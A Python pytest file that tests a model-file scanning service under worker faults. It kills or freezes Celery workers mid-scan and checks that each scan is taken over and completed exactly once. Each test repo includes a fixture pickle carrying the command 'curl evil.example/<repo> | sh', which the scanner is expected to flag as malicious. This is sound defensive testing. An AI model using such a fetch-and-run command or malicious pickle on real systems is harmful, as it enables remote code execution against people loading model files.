"""A worker dies (SIGKILL) or stalls (SIGSTOP) in the middle of a scan: the scan ends once, and only once.

Real processes: `celery worker` subprocesses (prefork) on Redis, PostgreSQL shared with this test, the Hub
read over HTTP from the test Hub server. The workers' lease is 3 s (`MODELGATE_SCAN_LEASE_SECONDS`); the new
worker runs beat with scan recovery every 0.5 s (production: a 120 s lease, recovery every minute). The
new worker is started with the old ones, on standby, and joins the queue once they are gone: worker
startup is the slow part of this test.
"""

from __future__ import annotations

import os
import signal
import time

import pytest
from django.utils import timezone

from governance.celery import app
from inventory.models import ModelFile, ModelVersion
from inventory.services import import_from_hub
from scanning import services as scan_services
from scanning.choices import ScanState, ScanTrigger
from scanning.models import Finding, ScanFileResult, ScanRun
from tests.faults.conftest import LEASE_SECONDS, WorkerProcess, wait_for
from tests.hubserver.repos import malicious_pickle_bytes, safetensors_bytes
from tests.hubserver.server import HubServer

pytestmark = [pytest.mark.slow, pytest.mark.services, pytest.mark.django_db(transaction=True)]

WEIGHT_FILES = 8
CDN_DELAY = 0.4  # seconds per LFS file read by the first worker: the scan takes ~4 s, long enough to kill


def _scanned_repo(hub: HubServer, repo_id: str) -> ModelVersion:
    files = {  # contents unique to the repo: CDN requests (by sha256) tell whose scan is waiting on the Hub
        f"model-{i:05d}-of-{WEIGHT_FILES:05d}.safetensors": safetensors_bytes(
            {f"layer{i}.weight": ("F32", [64, 8])}, metadata={"repo": repo_id}
        )
        for i in range(1, WEIGHT_FILES + 1)
    }
    files["extra.bin"] = malicious_pickle_bytes(f"curl evil.example/{repo_id} | sh")
    files["config.json"] = b'{"model_type": "bert"}'
    hub.add_repo(repo_id, files)
    version, created = import_from_hub(repo_id=repo_id)
    assert created and version.files.count() == len(files)
    return version


def _start_scan(version: ModelVersion, hub: HubServer) -> ScanRun:
    hub.set_delay(CDN_DELAY, "/cdn/*")
    return scan_services.request_scan(version=version, user=None, trigger=ScanTrigger.IMPORT)


def _mid_scan(run: ScanRun, hub: HubServer) -> bool:
    """Some files recorded, more to come, and its worker waiting on the Hub (so not inside a transaction)."""
    run.refresh_from_db()
    assert run.state != ScanState.SUCCEEDED, "the scan finished before the fault could be injected"
    blobs = {
        f"/cdn/{sha}" for sha in ModelFile.objects.filter(version_id=run.version_id).values_list("sha256", flat=True)
    }
    in_flight = any(r.server == "cdn" and r.status == 0 and r.path in blobs for r in list(hub.requests))
    return run.state == ScanState.RUNNING and run.files_done >= 3 and in_flight


def _outcome(run: ScanRun) -> dict[str, object]:
    run.refresh_from_db()
    return {
        "state": run.state,
        "verdict": run.verdict,
        "attempts": run.attempts,
        "lease_owner": run.lease_owner,
        "files_done": run.files_done,
        "finding_count": run.finding_count,
        "results": sorted(ScanFileResult.objects.filter(scan_run=run).values_list("pk", "path", "verdict")),
        "findings": sorted(Finding.objects.filter(scan_run=run).values_list("pk", "path", "rule", "offset")),
    }


def _assert_done_once(run: ScanRun, version: ModelVersion) -> None:
    run.refresh_from_db()
    files = version.files.count()
    assert run.state == ScanState.SUCCEEDED, (run.state, run.error)
    assert run.attempts == 2, f"expected the dead attempt and exactly one take-over, got {run.attempts} attempts"
    assert run.files_done == run.files_total == files
    results = list(ScanFileResult.objects.filter(scan_run=run))
    assert sorted(r.file_id for r in results) == sorted(version.files.values_list("pk", flat=True))
    findings = list(Finding.objects.filter(scan_run=run).values_list("file_id", "rule", "offset", "member"))
    assert len(findings) == len(set(findings)) == run.finding_count == sum(r.finding_count for r in results)
    assert any(path == "extra.bin" for path in Finding.objects.filter(scan_run=run).values_list("path", flat=True))
    assert run.verdict == "malicious"
    version.refresh_from_db()
    assert version.scan_verdict == "malicious"
    assert ScanRun.objects.filter(version=version).count() == 1


def _lease_lapsed(run: ScanRun) -> bool:
    run.refresh_from_db()
    return run.heartbeat_at is not None and (timezone.now() - run.heartbeat_at).total_seconds() > LEASE_SECONDS


def _holder(run: ScanRun, candidates: list[WorkerProcess]) -> WorkerProcess:
    """The worker whose pool process owns the run's lease (owner = "host:pid:nonce")."""
    pid = int(run.lease_owner.split(":")[1])
    return next(w for w in candidates if os.getpgid(pid) == w.proc.pid)


def test_a_killed_and_a_stalled_worker_s_scans_are_taken_over_exactly_once(workers, hub_env):
    killed_version = _scanned_repo(hub_env, "faults/killed")
    stalled_version = _scanned_repo(hub_env, "faults/stalled")
    new = workers.start("new", concurrency=2, beat_every=0.5, standby=True, wait=False)
    old = [workers.start(name, wait=False) for name in ("old-1", "old-2")]
    for w in old:
        w.wait_ready()
    killed_run = _start_scan(killed_version, hub_env)
    stalled_run = _start_scan(stalled_version, hub_env)  # one scan per old worker (concurrency 1, prefetch 1)
    for run in (killed_run, stalled_run):
        wait_for(lambda run=run: _mid_scan(run, hub_env), timeout=20, what=f"an old worker in the middle of {run}")
    killed, stalled = _holder(killed_run, old), _holder(stalled_run, old)
    assert killed is not stalled
    dead_owner = killed_run.lease_owner
    killed.kill()  # SIGKILL to the whole worker: no cleanup, no ack, no failure recorded
    stalled.signal(signal.SIGSTOP)  # frozen (a GC pause, a VM stall): its lease lapses while it holds its run
    hub_env.set_delay(0)
    for run in (killed_run, stalled_run):
        run.refresh_from_db()
        assert run.state == ScanState.RUNNING and run.files_done < run.files_total

    new.wait_ready()
    workers.join(new)  # "start a new worker"
    # The broker redelivers the killed worker's message too (here: as soon as the lease lapsed, racing recovery).
    wait_for(lambda: _lease_lapsed(killed_run), timeout=LEASE_SECONDS + 5, what="the dead worker's lease to lapse")
    app.send_task("scanning.scan_version", args=[killed_run.pk])
    wait_for(
        lambda: ScanRun.objects.filter(pk__in=[killed_run.pk, stalled_run.pk], state=ScanState.SUCCEEDED).count() == 2,
        timeout=30,
        what="both taken-over scans to finish",
    )
    _assert_done_once(killed_run, killed_version)
    _assert_done_once(stalled_run, stalled_version)
    assert killed_run.lease_owner != dead_owner
    settled = [_outcome(killed_run), _outcome(stalled_run)]

    stalled.signal(signal.SIGCONT)  # the stalled attempt wakes up and tries to record the file it was reading
    wait_for(
        lambda: f"scan run {stalled_run.pk}: lease lost" in stalled.log(),
        timeout=15,
        what="the stalled attempt to notice it lost the lease",
    )
    time.sleep(1)  # and a few more recovery rounds: nothing is taken over again
    # Not one row written, changed or deleted by the late attempt, nor by a second take-over.
    assert [_outcome(killed_run), _outcome(stalled_run)] == settled
    assert "Traceback" not in new.log(), new.log()[-3000:]
